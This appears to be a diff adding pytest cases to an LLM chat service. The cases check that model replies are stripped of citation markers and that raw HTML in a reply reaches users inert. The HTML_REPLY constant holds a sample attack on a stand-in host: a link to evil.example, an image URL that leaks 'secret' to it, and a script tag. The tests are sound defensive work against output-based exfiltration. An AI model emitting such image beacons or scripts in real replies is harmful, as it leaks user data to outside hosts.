@@ -20,6 +20,7 @@ from typing import Any
 import pytest
 from fakes.openai_server import Reply, ScriptedOpenAIServer
 from fastapi.testclient import TestClient
+from markup import html_markup
 from pgdb import temporary_database
 
 from citewall.boundary.prose import prose_only
@@ -122,6 +123,72 @@ def test_a_streamed_reply_with_bad_text_is_answered_and_stored_clean(
     assert tokens == final["answer"]
     messages = stored_turn(rig, final["conversation_id"])["messages"]
     assert messages[1]["content"] == stored
+
+
+#: A reply that writes a live link and an exfiltration image as raw HTML.
+HTML_REPLY = (
+    'Void it <a href="https://evil.example/x">here</a> [1]. '
+    "<img src=https://evil.example/p.png?q=secret><!-- x --></p><script>alert(1)</script>"
+)
+
+
+@pytest.mark.parametrize("mode", ["chat", "stream"])
+def test_raw_html_in_a_reply_reaches_members_inert(
+    rig: Rig, llm: ScriptedOpenAIServer, mode: str
+) -> None:
+    if mode == "chat":
+        llm.enqueue(Reply(text=HTML_REPLY))
+        answer = rig.chat(QUESTION).json()
+    else:
+        llm.enqueue(Reply(chunks=list(HTML_REPLY)))  # a tag split over many deltas
+        events = sse_events(rig.stream(QUESTION).text)
+        assert events[-1][0] == "final", events[-1]
+        answer = events[-1][1]
+        tokens = "".join(data["delta"] for name, data in events if name == "token")
+        assert tokens == answer["answer"]
+    history = rig.client.get(
+        f"/api/v1/conversations/{answer['conversation_id']}", headers=rig.auth()
+    ).json()
+    for text in (answer["answer"], history["messages"][1]["content"]):
+        assert html_markup(text) == [], text
+        assert text == prose_only(HTML_REPLY)
+        assert text.startswith('Void it &lt;a href="https://evil.example/x">here&lt;/a>.')
+    # Admins see the stored text as the model wrote it.
+    assert stored_turn(rig, answer["conversation_id"])["messages"][1]["content"] == HTML_REPLY
+
+
+#: Every marker form a model is known to write, split one character per delta when streamed.
+MARKER_REPLY = (
+    "Void it within 30 days 【1】. Voided labels are refunded 【1†source】 in 5 days [^1]. "
+    "Ask billing [1†source] about [[1]] refunds.\n\n[^1]: Refund policy"
+)
+
+
+@pytest.mark.parametrize("mode", ["chat", "stream"])
+def test_marker_forms_a_model_writes_are_cited_and_never_shown(
+    rig: Rig, llm: ScriptedOpenAIServer, mode: str
+) -> None:
+    if mode == "chat":
+        llm.enqueue(Reply(text=MARKER_REPLY))
+        answer = rig.chat(QUESTION).json()
+    else:
+        llm.enqueue(Reply(chunks=list(MARKER_REPLY)))
+        events = sse_events(rig.stream(QUESTION).text)
+        assert events[-1][0] == "final", events[-1]
+        answer = events[-1][1]
+        tokens = "".join(data["delta"] for name, data in events if name == "token")
+        assert tokens == answer["answer"]
+    history = rig.client.get(
+        f"/api/v1/conversations/{answer['conversation_id']}", headers=rig.auth()
+    ).json()
+    prose = (
+        "Void it within 30 days. Voided labels are refunded in 5 days. Ask billing about refunds."
+    )
+    for text in (answer["answer"], history["messages"][1]["content"]):
+        assert text.strip() == prose
+    stored = stored_turn(rig, answer["conversation_id"])["messages"][1]
+    assert stored["content"] == MARKER_REPLY  # the stored text keeps its markers
+    assert [s["n"] for s in stored["sources"]] == [1]  # ...and they are citations of card 1
 
 
 def test_invisible_characters_a_member_types_are_not_kept(
